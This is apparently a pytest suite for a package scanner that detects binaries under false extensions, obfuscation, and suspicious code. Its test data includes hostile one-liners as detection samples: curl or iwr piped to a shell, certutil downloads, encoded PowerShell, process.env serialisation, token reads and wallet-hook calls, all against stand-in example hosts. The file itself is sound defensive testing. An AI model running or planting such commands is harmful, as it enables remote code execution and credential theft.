"""Content kinds, native formats, lying extensions and code signals (``tarlens._analysis``).

Small crafted inputs cover every kind, format, mismatch and signal (each signal with a firing
and a silent example); the libmagic fallback is tested by making the import fail; hostile
10 MB inputs prove the scans are bounded; the committed javascript-obfuscator outputs must
fire obfuscation signals. Real releases (``-m registry``) check the labelled corpus of
``fixtures/analysis_corpus.py`` and that ordinary minified bundles stay quiet.
"""

from __future__ import annotations

import base64
import random
import struct
import sys
import threading
import types
from pathlib import Path

import pytest

from fixtures import analysis_corpus as corpus
from fixtures.obfuscated import build as obfuscated_build
from tarlens import _analysis
from tarlens._analysis import (
    CAPABILITY,
    NETWORK_LITERAL,
    OBFUSCATION,
    SCRIPT,
    Content,
    Kind,
    Signal,
    analyze,
    summarize,
)

OBFUSCATED = Path(obfuscated_build.__file__).parent


def seeded() -> random.Random:
    """Deterministic test data (not cryptography)."""
    return random.Random(4)


def names(content: Content, category: str | None = None) -> set[str]:
    return set(content.signal_names(category))


def values(content: Content, name: str) -> set[str]:
    return {s.value for s in content.signals if s.name == name}


def js(source: str, path: str = "index.js") -> Content:
    return analyze(path, source.encode())


# -- minimal headers of machine code ------------------------------------------------------


def elf(*, bits: int = 64, little: bool = True, e_type: int = 2) -> bytes:
    order = "<" if little else ">"
    ident = b"\x7fELF" + bytes([2 if bits == 64 else 1, 1 if little else 2, 1, 0]) + b"\0" * 8
    return ident + struct.pack(order + "HHI", e_type, 0x3E, 1) + b"\0" * 40


def pe(e_lfanew: int = 0x80) -> bytes:
    dos = b"MZ" + b"\x90\0" + b"\0" * 56 + struct.pack("<I", e_lfanew)
    dos += b"\0" * (e_lfanew - len(dos))
    return dos + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22) + b"\0" * 64


def macho(magic: bytes, filetype: int = 8) -> bytes:
    order = ">" if magic in (b"\xfe\xed\xfa\xce", b"\xfe\xed\xfa\xcf") else "<"
    return magic + struct.pack(order + "iiIIII", 0x0100000C, 0, filetype, 12, 1024, 0) + b"\0" * 4


def fat(
    cpus: tuple[int, ...] = (0x01000007, 0x0100000C), magic: bytes = b"\xca\xfe\xba\xbe"
) -> bytes:
    archs = b"".join(
        struct.pack(">IIIII", cpu, 3, 4096 * (i + 1), 4096, 12) for i, cpu in enumerate(cpus)
    )
    return magic + struct.pack(">I", len(cpus)) + archs + b"\0" * 64


def java_class(major: int = 52) -> bytes:
    return (
        b"\xca\xfe\xba\xbe" + struct.pack(">HH", 0, major) + b"\0\x1d\x0a\0\x06\0\x0f" + b"\0" * 32
    )


def ar(*members: tuple[bytes, bytes]) -> bytes:
    out = b"!<arch>\n"
    for name, body in members:
        header = name.ljust(16) + b"0".ljust(12) + b"0".ljust(6) + b"0".ljust(6) + b"644".ljust(8)
        out += header + str(len(body)).encode().ljust(10) + b"`\n" + body + b"\n" * (len(body) & 1)
    return out


WASM = b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0\x1f\xf3\xffa"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xdb"
ZIP = b"PK\x03\x04\x14\0\0\0\x08\0" + b"\0" * 20
README = b"# greeter\n\nSays hello.\n\n```js\nrequire('greeter')('you')\n```\n"


# -- kinds and formats ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "fmt", "mime"),
    [
        (elf(), "elf", "application/x-executable"),
        (elf(bits=32, little=False, e_type=3), "elf", "application/x-sharedlib"),
        (elf(e_type=1), "elf", "application/x-object"),
        (pe(), "pe", "application/vnd.microsoft.portable-executable"),
        (pe(e_lfanew=0x40), "pe", "application/vnd.microsoft.portable-executable"),
        (macho(b"\xfe\xed\xfa\xce"), "macho", "application/x-mach-binary"),
        (macho(b"\xce\xfa\xed\xfe"), "macho", "application/x-mach-binary"),
        (macho(b"\xfe\xed\xfa\xcf"), "macho", "application/x-mach-binary"),
        (macho(b"\xcf\xfa\xed\xfe", filetype=2), "macho", "application/x-mach-binary"),
        (fat(), "macho-fat", "application/x-mach-binary"),
        (fat((0x01000007,)), "macho-fat", "application/x-mach-binary"),
        (fat(magic=b"\xca\xfe\xba\xbf"), "macho-fat", "application/x-mach-binary"),
        (WASM, "wasm", "application/wasm"),
        (ar((b"/", b"\0\0\0\0"), (b"a.o/", elf(e_type=1))), "ar", "application/x-archive"),
        (
            ar((b"a.obj/", struct.pack("<HH", 0x8664, 3) + b"\0" * 40)),
            "ar",
            "application/x-archive",
        ),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_machine_code_is_binary_whatever_the_name(data: bytes, fmt: str, mime: str) -> None:
    for path in ("bin/tool", "addon.node", "README.md"):
        c = analyze(path, data)
        assert (c.kind, c.binary_format, c.mime) == (Kind.BINARY, fmt, mime)
        assert (c.text, c.lines, c.longest_line, c.signals) == (False, None, None, ())


@pytest.mark.parametrize(
    "data",
    [
        b"MZ" + b"\0" * 100,  # DOS stub without a PE header
        pe()[:0x80] + b"NE\0\0" + b"\0" * 40,  # the offset points at something else
        b"MZ" + b"\0" * 58 + struct.pack("<I", 0xFFFFFF) + b"\0" * 64,  # offset past the end
        macho(b"\xcf\xfa\xed\xfe", filetype=99),
        fat(cpus=(0x1234,)),  # no known CPU
        b"\x7fELF\x09\x09" + b"\0" * 40,  # invalid class and byte order
    ],
)
def test_lookalike_headers_are_not_machine_code(data: bytes) -> None:
    c = analyze("x.bin", data)
    assert c.kind is not Kind.BINARY
    assert c.binary_format is None


def test_java_class_is_data_not_a_fat_binary() -> None:
    for major in (45, 52, 65):
        c = analyze("Main.class", java_class(major))
        assert (c.kind, c.binary_format, c.mime) == (Kind.DATA, None, "application/x-java-applet")


@pytest.mark.parametrize(
    ("data", "mime"),
    [
        (PNG, "image/png"),
        (JPEG, "image/jpeg"),
        (b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!", "image/gif"),
        (b"RIFF\x24\0\0\0WEBPVP8 \0\0", "image/webp"),
        (b"\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0\x68\4\0\0\x16\0\0\0", "image/vnd.microsoft.icon"),
        (b"wOFF\0\1\0\0\0\0\x10\0", "font/woff"),
        (b"wOF2\0\1\0\0\0\0\x10\0", "font/woff2"),
        (b"\0\1\0\0\0\x0d\0\x80\0\3\0\x50", "font/sfnt"),
        (b"OTTO\0\x0a\0\x80\0\3\0\x20", "application/vnd.ms-opentype"),
        (ZIP, "application/zip"),
        (b"\x1f\x8b\x08\0\0\0\0\0\0\x03", "application/gzip"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "application/pdf"),
        (b"SQLite format 3\0\x10\0", "application/vnd.sqlite3"),
    ],
)
def test_known_data_formats(data: bytes, mime: str) -> None:
    c = analyze("asset", data)
    assert (c.kind, c.mime, c.text, c.binary_format) == (Kind.DATA, mime, False, None)


def test_unknown_binary_data_asks_libmagic() -> None:
    data = seeded().randbytes(4096)
    c = analyze("blob.dat", data)
    assert c.kind is Kind.DATA
    if _analysis.magic_available():
        assert c.mime == "application/octet-stream"
    else:
        assert c.mime is None


def test_readable_text_is_source() -> None:
    c = analyze("README.md", README)
    assert (c.kind, c.mime, c.text, c.lines, c.longest_line) == (
        Kind.SOURCE,
        "text/plain",
        True,
        7,
        25,
    )
    assert c.signals == ()  # Markdown is documentation: no code signals


def test_empty_file() -> None:
    c = analyze("index.js", b"")
    assert (c.kind, c.text, c.lines, c.mime) == (Kind.SOURCE, True, 0, "application/x-empty")


def minified_js(size: int = 20_000) -> str:
    parts: list[str] = []
    i = 0
    while sum(map(len, parts)) < size:
        parts.append(
            f'function a{i}(b,c){{var d=b+c,e="x{i}";if(d>{i})return e;for(var f=0;f<d;f++)'
            f"c[f]=b[f]*{i};return c.join(e)}}"
        )
        i += 1
    return "!function(){" + ";".join(parts) + "}();"


def readable_js(lines: int = 60) -> str:
    body = "\n".join(f"  const value{i} = compute({i}, options); // step {i}" for i in range(lines))
    head = "'use strict';\n\nfunction run(options) {\n"
    return f"{head}{body}\n  return options;\n}}\n\nmodule.exports = run;\n"


def test_minified_and_readable_javascript() -> None:
    assert js(minified_js()).kind is Kind.MINIFIED
    assert js(readable_js()).kind is Kind.SOURCE
    # a license header does not make a bundle readable, a source map comment is no proof
    assert js("/*! lib v1 | MIT */\n" + minified_js() + "\n//# sourceMappingURL=x.map").kind is (
        Kind.MINIFIED
    )
    assert js(readable_js() + "//# sourceMappingURL=index.js.map\n").kind is Kind.SOURCE


def test_minified_is_decided_by_bytes_not_name() -> None:
    data = minified_js().encode()
    for path in ("index.js", "lib.min.js", "notes.txt", "logo.png", "README"):
        assert analyze(path, data).kind is Kind.MINIFIED


def test_minified_css() -> None:
    rule = ".btn-{0}{{color:#{0:03x};background:#fff;border:1px solid #{0:03x};padding:.375rem}}"
    css = "".join(rule.format(i) for i in range(300))
    assert analyze("dist/app.min.css", css.encode()).kind is Kind.MINIFIED
    pretty = css.replace("{", " {\n  ").replace(";", ";\n  ").replace("}", "\n}\n")
    assert analyze("dist/app.css", pretty.encode()).kind is Kind.SOURCE


@pytest.mark.parametrize(
    ("path", "text", "mime"),
    [
        (
            "data.json",
            '{"a":[' + ",".join(f'{{"k{i}":"v{i}"}}' for i in range(2000)) + "]}",
            "application/json",
        ),
        ("x.js.map", '{"version":3,"mappings":"' + "AAAA,CAAC;" * 3000 + '"}', "application/json"),
        (
            "icon.svg",
            '<svg xmlns="http://www.w3.org/2000/svg">'
            + '<path d="M0 0h24v24H0z"/>' * 300
            + "</svg>",
            "image/svg+xml",
        ),
        (
            "README.md",
            "Written by " + ", ".join(f"[Name {i}](https://github.com/u{i})" for i in range(100)),
            "text/plain",
        ),
    ],
)
def test_one_line_data_and_prose_are_not_minified(path: str, text: str, mime: str) -> None:
    c = analyze(path, text.encode())
    assert (c.kind, c.mime, c.lines) == (Kind.SOURCE, mime, 1)


def test_text_encodings_and_control_characters() -> None:
    # compressed tables in real bundles carry raw control characters (prettier's flow plugin: 4%)
    table = "var t='" + "".join(chr(i % 7 + 1) + "abcdefghijklmnopqrstuvwxyz" for i in range(300))
    table += "';\n"
    assert js(table).text
    assert analyze("a.txt", "\ufeffhello\n".encode()).kind is Kind.SOURCE
    assert analyze("a.txt", "hello wörld\n".encode("utf-16")).text
    latin1 = analyze("a.txt", "caf\xe9 cr\xe8me\n".encode("latin-1"))
    assert latin1.text and latin1.kind is Kind.SOURCE
    assert not analyze("a.txt", b"\0\1\2\3" * 100).text
    noise = seeded().randbytes(4096)
    assert not analyze("a.txt", b"\xff\xfe" + noise).text  # a UTF-16 BOM on random bytes


def test_lines_and_longest_line() -> None:
    c = analyze("a.txt", b"one\ntwo two\n\nfour")
    assert (c.lines, c.longest_line) == (4, 7)
    assert analyze("a.txt", b"one\n").lines == 1


# -- extensions that lie -------------------------------------------------------------------

PAYLOAD_JS = b"const cp = require('child_process');\nmodule.exports = function () { cp.exec(x) };\n"


@pytest.mark.parametrize(
    ("path", "data", "message"),
    [
        ("logo.png", PAYLOAD_JS, "a .png whose bytes are JavaScript"),
        ("font.woff2", b"just some notes\n", "a .woff2 whose bytes are text"),
        ("logo.png", b"#!/bin/sh\ncurl http://x.example | sh\n", "a .png whose bytes are a script"),
        ("index.js", elf(), "an ELF executable named .js"),
        ("lib/data.json", pe(), "a PE (Windows) executable named .json"),
        ("img/icon.png", macho(b"\xcf\xfa\xed\xfe"), "a Mach-O executable named .png"),
        ("node-gyp.dll", elf(), "an ELF executable named .dll"),
        ("index.js", PNG, "a .js whose bytes are a PNG image"),
        ("icon.png", ZIP, "a .png whose bytes are a ZIP archive"),
        ("addon.node", b"\0\1\2\3" * 64, "a .node whose bytes are data that is not machine code"),
        ("addon.node", PNG, "a .node whose bytes are a PNG image"),
    ],
)
def test_extension_mismatch(path: str, data: bytes, message: str) -> None:
    assert analyze(path, data).extension_mismatch == message


@pytest.mark.parametrize(
    ("path", "data"),
    [
        ("bin/esbuild", elf()),
        ("build/Release/addon.node", macho(b"\xcf\xfa\xed\xfe")),
        ("fsevents.node", fat()),
        ("esbuild.exe", pe()),
        ("lib/libvips.so", elf(e_type=3)),
        ("esbuild.wasm", WASM),
        ("prebuilt/tool.bin", pe()),
        ("icon.png", PNG),
        ("photo.png", JPEG),  # another image format under an image name: harmless
        ("icon.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("index.js", PAYLOAD_JS),
        ("blob.dat", b"\0\1\2\3" * 64),
    ],
)
def test_no_mismatch(path: str, data: bytes) -> None:
    assert analyze(path, data).extension_mismatch is None


def test_javascript_under_a_data_name_gets_signals() -> None:
    c = analyze("assets/logo.png", PAYLOAD_JS)
    assert c.kind is Kind.SOURCE
    assert c.mime == "text/javascript"
    assert "child-process" in names(c)


# -- capability and network signals: each fires and stays silent ---------------------------

SIGNALS = [
    # (name, firing source, value, silent source)
    (
        "child-process",
        "const cp = require('child_process')",
        "child_process",
        "// require('child_process')\nlog('child process')",
    ),
    (
        "child-process",
        "import { exec } from 'node:child_process'",
        "child_process",
        "import x from './child_process_utils'",
    ),
    (
        "child-process",
        "const m = ['execSync', 'x']; o[m[0]]('id')",
        "execSync",
        "const execSyncDocs = 1",
    ),
    ("eval", "eval(code)", "", "const s = 'eval(code)'; obj.evaluate(code)"),
    ("eval", "(0, eval)(code)", "", "medieval(x)"),
    ("eval", "window['eval'](code)", "", "const x = {eval: 1}"),
    ("eval", "setTimeout('alert(1)', 10)", "", "setTimeout(() => alert(1), 10)"),
    (
        "new-function",
        "const f = new Function('a', 'return a')",
        "",
        "function Fn() {}\nFn.call(null)",
    ),
    ("new-function", "Function('return this')()", "", "isFunction(x)"),
    ("vm", "const vm = require('vm')", "vm", "const vm = 'vm'"),
    ("vm", "script.runInNewContext(sandbox)", "runInNewContext", "runInContextOf(x)"),
    ("http", "require('https').get(url)", "https", "const protocol = 'https'"),
    ("net", "const net = require('node:net')", "net", "const net = require('./net')"),
    ("net", "import tls from 'tls'", "tls", "const tls = 'tls'"),
    ("dns", "const { lookup } = require('dns/promises')", "dns/promises", "const dns = 'dns'"),
    ("fetch", "await fetch(url)", "", "client.fetch(url)\n// fetch(url)"),
    ("fetch", "globalThis.fetch(url)", "", "const fetchUrl = 1"),
    ("xhr", "const x = new XMLHttpRequest()", "", "log('XMLHttpRequest')"),
    ("websocket", "const ws = new WebSocket(url)", "", "log('WebSocket')"),
    ("websocket", "const WS = require('ws')", "ws", "const ws = './ws'"),
    ("fs-write", "fs.writeFileSync(p, data)", "writeFileSync", "fs.readFileSync(p)"),
    ("fs-write", "fs['appendFile'](p, data, cb)", "appendFile", "const appendFile = 1"),
    ("fs-delete", "fs.unlinkSync(p)", "unlinkSync", "fs.existsSync(p)"),
    ("fs-delete", "await fsp.rm(dir, { recursive: true })", "rm", "arm(dir)"),
    ("fs-delete", "rimraf.sync(dir)", "rimraf", "const rimrafDocs = 1"),
    ("env-read", "const home = process.env.HOME", "HOME", "log('process.env.HOME')"),
    ("env-read", "const t = process.env['NPM_TOKEN']", "NPM_TOKEN", "const env = processEnv.X"),
    (
        "env-serialize",
        "send(JSON.stringify(process.env))",
        "",
        "JSON.stringify(process.env.NODE_ENV)",
    ),
    (
        "env-serialize",
        "JSON.stringify({ host, env: process.env })",
        "",
        "JSON.stringify(x); spawn(c, { env: process.env })",
    ),
    ("env-serialize", "new URLSearchParams(process.env).toString()", "", "new URLSearchParams(q)"),
    ("os-info", "const u = os.userInfo().username", "userInfo", "os.platform()"),
    ("os-info", "os.networkInterfaces()", "networkInterfaces", "url.hostname"),
    (
        "wallet-hook",
        "window.ethereum.request({ method: 'eth_accounts' })",
        "ethereum",
        "const ethereum = 1",
    ),
    ("wallet-hook", "if (window['solana']) steal()", "solana", "solanaDocs()"),
    (
        "wallet-hook",
        "p.request({ method: 'eth_sendTransaction' })",
        "eth_sendTransaction",
        "'eth_sendTransactionHelp'",
    ),
    (
        "module-compile",
        "var m = new module.constructor; m._compile(src, f)",
        "_compile",
        "compile(src)",
    ),
    ("chmod-exec", "fs.chmodSync(bin, 0o755)", "0o755", "fs.chmodSync(bin, 0o644)"),
    ("chmod-exec", "fs.chmodSync(bin, 493)", "0o755", "fs.chmodSync(bin, 438)"),
    (
        "url",
        "fetch('https://collector.example.com/x?id=1')",
        "https://collector.example.com/x?id=1",
        "// see https://lodash.com/docs\nconst re = /https?:\\/\\/x/",
    ),
    (
        "domain",
        "const host = 'pastebin.com'",
        "pastebin.com",
        "require('./index.js'); a('user.id'); b('README.md')",
    ),
    (
        "domain",
        "https.get('https://evil.example.net/a')",
        "evil.example.net",
        "const p = 'lib.map'",
    ),
    (
        "ip",
        "net.connect(4444, '45.61.136.12')",
        "45.61.136.12",
        "const ua = 'Chrome/120.0.0.0'; const v = '1.2.3.4.5'",
    ),
    ("ip", "fetch('http://[::1]:8080/')", "::1", "const n = 999.1"),
]


@pytest.mark.parametrize(
    ("name", "firing", "value", "silent"),
    SIGNALS,
    ids=[f"{s[0]}-{i}" for i, s in enumerate(SIGNALS)],
)
def test_signal_fires_and_stays_silent(name: str, firing: str, value: str, silent: str) -> None:
    fired = js(firing)
    assert name in names(fired), fired.signals
    assert value in values(fired, name)
    quiet = js(silent)
    assert name not in names(quiet), quiet.signals


def test_signal_categories() -> None:
    c = js("require('child_process'); fetch('https://x.example.org/a')")
    by_name = {s.name: s.category for s in c.signals}
    assert by_name["child-process"] == CAPABILITY
    assert by_name["url"] == by_name["domain"] == NETWORK_LITERAL
    assert analyze("a.sh", b"rundll32 x.dll,main\n").signals[0].category == SCRIPT


def test_signal_lines_are_first_occurrences() -> None:
    source = (
        "// header\n\nconst a = process.env.HOME;\nconst b = process.env.HOME;\n"
        "const c = process.env.USER;\n"
    )
    c = js(source)
    env = {(s.value, s.line) for s in c.signals if s.name == "env-read"}
    assert env == {("HOME", 3), ("USER", 5)}


def test_signal_values_and_counts_are_bounded() -> None:
    long_url = "https://x.example.com/" + "a" * 1000
    c = js(f"fetch('{long_url}')")
    assert all(len(s.value) <= _analysis.MAX_VALUE for s in c.signals)
    many = js("\n".join(f"x(process.env.V{i})" for i in range(500)))
    assert len(values(many, "env-read")) == _analysis.MAX_VALUES_PER_SIGNAL


def test_hidden_strings_are_decoded() -> None:
    escaped = js(r"const m = require('\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73')")
    assert {"child-process", "hex-escapes"} <= names(escaped)
    b64 = base64.b64encode(b"child_process").decode()
    assert "child-process" in names(js(f"require(Buffer.from('{b64}', 'base64').toString())"))
    url = base64.b64encode(b"https://drop.example.org/p").decode()
    hidden = js(f"fetch(atob('{url}'))")
    assert "https://drop.example.org/p" in values(hidden, "url")
    assert "drop.example.org" in values(hidden, "domain")
    hexed = js(f"const n = ['{b'_compile'.hex()}', '{b'https://h.example.net/'.hex()}'];")
    assert {"module-compile", "url"} <= names(hexed)
    assert not names(js("const colors = ['ffffff00', 'deadbeefcafe'];"))
    unicode = js(r"const u = '\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002fa.example.io/x'")
    assert "https://a.example.io/x" in values(unicode, "url")


def test_script_commands_inside_javascript_strings() -> None:
    c = js("require('child_process').exec('curl -fsSL https://x.example.com/i.sh | sh')")
    assert {"child-process", "curl-pipe-shell", "download", "url"} <= names(c)
    assert "download" not in names(js("const agents = ['curl/', 'wget/'];"))


def test_declaration_files_and_documents_have_no_code_signals() -> None:
    assert analyze("types/index.d.ts", b"import { exec } from 'child_process';\n").signals == ()
    assert analyze("README.md", b"Run `eval(x)` and require('child_process')\n").signals == ()


def test_shebang_decides_javascript_or_script() -> None:
    node = analyze("bin/cli", b"#!/usr/bin/env node\nrequire('child_process').execSync('ls')\n")
    assert "child-process" in names(node)
    assert node.mime == "text/javascript"
    shell = analyze("bin/setup", b"#!/bin/sh\ncurl -s https://x.example.com/a | bash\n")
    assert "curl-pipe-shell" in names(shell)
    assert shell.mime == "text/x-shellscript"


# -- obfuscation signals -------------------------------------------------------------------


def hex_names(n: int) -> str:
    return ";".join(f"var _0x{0x1A2B + i:x}=_0x{0x3C4D + i:x}({i})" for i in range(n))


ROTATION_NEW = (
    "(function(_0x1,_0x2){const _0x3=_0x1();while(!![]){try{const _0x4=parseInt(_0x5(0x1))/0x1;"
    "if(_0x4===_0x2)break;else _0x3['push'](_0x3['shift']());}catch(_0x6){_0x3['push']"
    "(_0x3['shift']());}}}(_0x7,0x3828f));"
)
ROTATION_OLD = (
    "(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};c(++b);}(e,0x1a3));"
)
JSFUCK = "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+!+[]]+(!![]+[])[+[]]" * 4


def dense_line(n: int = 3000) -> str:
    line = ""
    i = 0
    while len(line) < n:
        line += f"a{i}=b(c[{i}],d^{i})||e.f{i};"
        i += 1
    return line


OBFUSCATION_SIGNALS = [
    (
        "obfuscator-identifiers",
        hex_names(8),
        "var _0x1a2b = 1; var hex = '_0xabcd _0xbcde _0xcdef _0xdef0 _0xef01'",
    ),
    ("string-array-rotation", ROTATION_NEW, "while (queue.length) { queue.push(queue.shift()) }"),
    ("string-array-rotation", ROTATION_OLD, "while (--n) { items.push(items.shift()) }"),
    (
        "hex-escapes",
        r"var s = '\x72\x65\x71\x75\x69\x72\x65\x28'",
        r"var s = '\u00e9\u00e8\u00ea'; var r = /[\x20-\x7e]+/",
    ),
    ("jsfuck", JSFUCK, "var a = [[], [], [([])]]; f(g(h(i)))"),
    (
        "long-line",
        readable_js(80) + dense_line() + "\n",
        readable_js(80) + "var s = '" + "x" * 3000 + "';\n",
    ),
    (
        "packer",
        "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))",
        "function pack(p, a, c, k, e, d) {}",
    ),
]


@pytest.mark.parametrize(
    ("name", "firing", "silent"),
    OBFUSCATION_SIGNALS,
    ids=[f"{s[0]}-{i}" for i, s in enumerate(OBFUSCATION_SIGNALS)],
)
def test_obfuscation_signal(name: str, firing: str, silent: str) -> None:
    fired = js(firing)
    assert name in names(fired, OBFUSCATION), fired.signals
    assert name not in names(js(silent)), js(silent).signals


def test_long_line_is_no_signal_in_a_minified_file() -> None:
    c = js(dense_line(20_000))
    assert c.kind is Kind.MINIFIED
    assert "long-line" not in names(c)


def test_blob_signals() -> None:
    rng = seeded()
    payload = rng.randbytes(3000)
    c = js(f"const p = '{base64.b64encode(payload).decode()}';")
    assert values(c, "base64-blob") == {"3000 bytes"}
    gz = base64.b64encode(b"\x1f\x8b\x08\0" + payload).decode()
    assert values(js(f"x('{gz}')"), "base64-blob") == {"3004 bytes, gzip data"}
    exe = base64.b64encode(pe() + payload).decode()
    assert values(js(f"x('{exe}')"), "base64-blob") == {f"{len(pe()) + 3000} bytes, pe"}
    assert values(js(f"x('{payload.hex()}')"), "hex-blob") == {"3000 bytes"}
    # silent: an inline image that is what its data: URI says, a hash, a short token
    png = base64.b64encode(PNG + payload).decode()
    assert "base64-blob" not in names(js(f"img.src = 'data:image/png;base64,{png}'"))
    assert not names(
        js(f"const sha = '{payload[:32].hex()}'; const t = 'c2VjcmV0LXRva2Vu';"), OBFUSCATION
    )


def test_high_entropy_string() -> None:
    rng = seeded()
    alphabet = "".join(chr(c) for c in range(33, 127) if chr(c) not in "'\\")
    noise = "".join(rng.choice(alphabet) for _ in range(600))
    fired = js(f"const k = '{noise}';")
    assert "high-entropy-string" in names(fired)
    prose = "The quick brown fox jumps over the lazy dog while the cat sleeps. " * 10
    assert "high-entropy-string" not in names(js(f"const msg = '{prose}';"))


def obfuscated_samples() -> list[Path]:
    return sorted(OBFUSCATED.glob("*.js"))


def test_committed_samples_match_the_build_script() -> None:
    assert {p.name for p in obfuscated_samples()} == set(obfuscated_build.SAMPLES)


@pytest.mark.parametrize("sample", obfuscated_samples(), ids=lambda p: p.name)
def test_javascript_obfuscator_output_fires(sample: Path) -> None:
    c = analyze(f"lib/{sample.name}", sample.read_bytes())
    found = names(c, OBFUSCATION)
    assert "string-array-rotation" in found
    assert found & {"obfuscator-identifiers", "hex-escapes"}
    assert c.kind is Kind.MINIFIED


def test_obfuscated_samples_still_show_some_capabilities() -> None:
    default = analyze("x.js", (OBFUSCATED / "payload.default.js").read_bytes())
    assert {"child-process", "fs-write", "os-info", "url", "ip"} <= names(default)
    escaped = analyze("x.js", (OBFUSCATED / "wallet.mangled-escaped.js").read_bytes())
    assert {"wallet-hook", "url", "fetch"} <= names(escaped)


def test_readable_sources_of_the_samples_are_not_obfuscated() -> None:
    for source in sorted((OBFUSCATED / "src").glob("*.js")):
        c = analyze(source.name, source.read_bytes())
        assert c.kind is Kind.SOURCE
        assert not names(c, OBFUSCATION)


# -- scripts -------------------------------------------------------------------------------

PS_COMMAND = base64.b64encode("IEX (iwr https://x.example.com/a.ps1)".encode("utf-16-le")).decode()
SCRIPT_SIGNALS = [
    (
        "install.sh",
        "curl-pipe-shell",
        "curl -fsSL https://get.example.com/i.sh | sudo bash",
        "curl -fsSL -o i.sh https://get.example.com/i.sh",
    ),
    (
        "install.sh",
        "curl-pipe-shell",
        'sh -c "$(wget -qO- https://x.example.com/a)"',
        "sh -c 'echo hi'",
    ),
    (
        "setup.ps1",
        "curl-pipe-shell",
        "iwr https://x.example.com/a.ps1 | iex",
        "iwr https://x.example.com/a.ps1 -OutFile a.ps1",
    ),
    (
        "setup.ps1",
        "curl-pipe-shell",
        "IEX (New-Object Net.WebClient).DownloadString('https://x.example.com/a')",
        "Write-Host 'IEX is blocked'",
    ),
    (
        "postinstall.sh",
        "download",
        "wget -q https://x.example.com/bin",
        "echo 'install wget first'",
    ),
    (
        "setup.cmd",
        "download",
        "certutil -urlcache -split -f http://x.example.com/a.exe a.exe",
        "certutil -hashfile a.exe",
    ),
    (
        "setup.cmd",
        "powershell-encoded",
        f"powershell -NoP -W Hidden -enc {PS_COMMAND}",
        "powershell -File setup.ps1",
    ),
    ("setup.bat", "rundll32", "rundll32 node-gyp.dll,main", "echo rundll32.txt"),
    ("fix.sh", "chmod-exec", "chmod +x ./bin/tool", "chmod 644 ./README"),
    ("fix.sh", "chmod-exec", "chmod -R 755 ./bin", "chmod -R go-w ./bin"),
]


@pytest.mark.parametrize(
    ("path", "name", "firing", "silent"),
    SCRIPT_SIGNALS,
    ids=[f"{s[1]}-{i}" for i, s in enumerate(SCRIPT_SIGNALS)],
)
def test_script_signal(path: str, name: str, firing: str, silent: str) -> None:
    fired = analyze(path, f"@echo off\n{firing}\n".encode())
    assert name in names(fired, SCRIPT), fired.signals
    quiet = analyze(path, f"@echo off\n{silent}\n".encode())
    assert name not in names(quiet), quiet.signals


def test_powershell_encoded_command_is_decoded() -> None:
    c = analyze("a.cmd", f"powershell.exe -EncodedCommand {PS_COMMAND}\r\n".encode())
    assert values(c, "powershell-encoded") == {"IEX (iwr https://x.example.com/a.ps1)"}
    assert "https://x.example.com/a.ps1" in values(c, "url")


def test_script_lines() -> None:
    c = analyze("i.sh", b"#!/bin/sh\nset -e\n\ncurl -s https://x.example.com/a | sh\n")
    assert {s.line for s in c.signals if s.name == "curl-pipe-shell"} == {4}


# -- libmagic ------------------------------------------------------------------------------


@pytest.fixture
def fresh_libmagic(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_analysis, "_LIBMAGIC", _analysis._Libmagic())


@pytest.mark.usefixtures("fresh_libmagic")
def test_libmagic_import_failure_falls_back_with_one_notice(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(sys.modules, "magic", None)  # `import magic` raises ImportError
    assert not _analysis.magic_available()
    notice = _analysis.magic_notice()
    assert notice is not None and "libmagic could not be loaded" in notice
    assert _analysis.magic_notice() == notice
    unknown = analyze("blob.dat", bytes(range(256)) * 8)
    assert (unknown.kind, unknown.mime) == (Kind.DATA, None)
    assert analyze("icon.png", PNG).mime == "image/png"
    assert analyze("bin/x", elf()).kind is Kind.BINARY
    assert analyze("a.js", PAYLOAD_JS).kind is Kind.SOURCE


@pytest.mark.usefixtures("fresh_libmagic")
def test_libmagic_that_cannot_start_falls_back(monkeypatch: pytest.MonkeyPatch) -> None:
    broken = types.ModuleType("magic")

    def refuse(**_: object) -> None:
        raise RuntimeError("no magic database")

    broken.Magic = refuse  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "magic", broken)
    assert not _analysis.magic_available()
    assert "no magic database" in (_analysis.magic_notice() or "")
    assert analyze("blob.dat", bytes(range(256)) * 8).mime is None


@pytest.mark.usefixtures("fresh_libmagic")
def test_libmagic_is_used_lazily_once_and_under_a_lock(monkeypatch: pytest.MonkeyPatch) -> None:
    created = []
    active = []

    class FakeMagic:
        def __init__(self, *, mime: bool) -> None:
            created.append(mime)

        def from_buffer(self, _data: bytes) -> str:
            active.append(1)
            assert len(active) == 1, "libmagic entered by two threads at once"
            active.pop()
            return "application/x-fake"

    fake = types.ModuleType("magic")
    fake.Magic = FakeMagic  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "magic", fake)
    assert analyze("a.js", PAYLOAD_JS).mime == "text/javascript"  # fast path: no libmagic
    assert created == []

    def work() -> None:
        for _ in range(50):
            assert analyze("blob.dat", bytes(range(256)) * 4).mime == "application/x-fake"

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert created == [True]
    assert _analysis.magic_available()
    assert _analysis.magic_notice() is None


# -- bounded work on hostile input ---------------------------------------------------------

TEN_MB = 10 * 1024 * 1024
